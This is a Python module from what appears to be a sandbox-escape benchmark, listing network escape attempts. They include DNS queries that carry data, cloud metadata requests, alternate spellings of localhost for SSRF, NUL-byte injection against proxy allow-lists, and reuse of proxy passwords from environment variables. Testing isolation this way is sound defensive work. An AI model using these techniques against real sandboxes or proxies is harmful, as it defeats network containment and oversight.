"""The network."""

from __future__ import annotations

import socket
import time
from typing import Any

from bench.escape.prelude import NotHereError, ask, by_http, by_socks, first
from bench.escape.suite import attack
from bench.escape.world import MARK, World

_NUL = "https://www.penligent.ai/hackinglabs/pt/?p=5317"
_SSRF = "https://nvd.nist.gov/vuln/detail/CVE-2023-42282"


def _sent(world: World) -> bool:
    time.sleep(0.2)
    return any(MARK.encode() in data for data in world.datagrams)


@attack("connect to a server by its IPv4 address", "https://attack.mitre.org/techniques/T1048/", secret="tcp")
def by_address(given: dict[str, Any]) -> object:
    return first(lambda address: ask(address, given["port"]), given["addresses"])


@attack("connect by a name", "https://attack.mitre.org/techniques/T1048/", secret="tcp")
def by_name(given: dict[str, Any]) -> object:
    return ask("localhost", given["port"])


@attack("connect by IPv6", "https://attack.mitre.org/techniques/T1048/", secret="tcp")
def by_version_6(given: dict[str, Any]) -> object:
    return ask("::1", given["port"])


@attack(
    "connect by a mapped address (::ffff:127.0.0.1)", "https://www.rfc-editor.org/rfc/rfc4291#section-2.5.5.2", secret="tcp"
)
def by_mapped_address(given: dict[str, Any]) -> object:
    return ask("::ffff:127.0.0.1", given["port"])


@attack("send a datagram", "https://attack.mitre.org/techniques/T1048/", proof=_sent)
def datagram(given: dict[str, Any]) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
        for address in given["addresses"]:
            it.sendto(given["mark"].encode(), (address, given["udp"]))
    return "sent"


@attack("ask the resolver for a name that carries data", "https://nvd.nist.gov/vuln/detail/CVE-2025-55284")
def resolver(given: dict[str, Any]) -> object:
    if not given["resolver"]:
        raise NotHereError("the benchmark has no resolver of its own here")
    query = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\4data\7example\3com\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
        it.settimeout(3)
        it.sendto(query, (given["resolver"], 53))
        return f"{len(it.recv(2048))} bytes from {given['resolver']}"


@attack(
    "ask the cloud's metadata service",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    secret="tcp",
)
def metadata(given: dict[str, Any]) -> object:
    if not given["metadata"]:
        raise NotHereError("the benchmark has no metadata service of its own here")
    return ask(given["metadata"], 80)


@attack("have the proxy connect to an address", "https://www.rfc-editor.org/rfc/rfc9110#name-connect", secret="tcp")
def proxy_address(given: dict[str, Any]) -> object:
    place = f"127.0.0.1:{given['port']}".encode()
    return by_http(b"CONNECT " + place + b" HTTP/1.1", place)


@attack("… to an address in another spelling", _SSRF, secret="tcp")
def proxy_spelling(given: dict[str, Any]) -> object:
    names = ("[::ffff:127.0.0.1]", "[::1]", "2130706433", "0x7f.1", "127.1", "0.0.0.0", "localhost")
    places = [f"{name}:{given['port']}".encode() for name in names]
    return first(lambda place: by_http(b"CONNECT " + place + b" HTTP/1.1", place), places)


@attack("… with an allowed name before an @", "https://www.rfc-editor.org/rfc/rfc3986#section-7.6", secret="tcp")
def proxy_user(given: dict[str, Any]) -> object:
    place = f"{given['allowed']}@127.0.0.1:{given['port']}".encode()
    return by_http(b"CONNECT " + place + b" HTTP/1.1", place)


@attack("… with an allowed name in the Host header", "https://www.rfc-editor.org/rfc/rfc9112#section-3.2.2", secret="tcp")
def proxy_host_header(given: dict[str, Any]) -> object:
    line = f"GET http://127.0.0.1:{given['port']}/ HTTP/1.1".encode()
    return by_http(line, given["allowed"].encode())


@attack("… with NUL and an allowed name (CONNECT)", _NUL, secret="tcp")
def proxy_nul(given: dict[str, Any]) -> object:
    place = f"127.0.0.1\0.{given['allowed']}:{given['port']}".encode()
    return by_http(b"CONNECT " + place + b" HTTP/1.1", given["allowed"].encode())


@attack("… with NUL and an allowed name (SOCKS5)", _NUL, secret="tcp")
def socks_nul(given: dict[str, Any]) -> object:
    return by_socks(f"127.0.0.1\0.{given['allowed']}".encode(), given["port"])


@attack("… to an address (SOCKS5)", "https://www.rfc-editor.org/rfc/rfc1928", secret="tcp")
def socks_address(given: dict[str, Any]) -> object:
    return by_socks(b"127.0.0.1", given["port"])


@attack(
    "use the proxy, and its password, of the environment that starts it",
    "https://cwe.mitre.org/data/definitions/526.html",
    secret="tcp",
    environment=lambda world: dict.fromkeys(
        ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"),
        f"http://user:{world.proxy.password}@127.0.0.1:{world.proxy.locked}",
    ),
)
def outer_proxy(given: dict[str, Any]) -> object:
    place = f"127.0.0.1:{given['port']}".encode()
    return by_http(b"CONNECT " + place + b" HTTP/1.1", place)
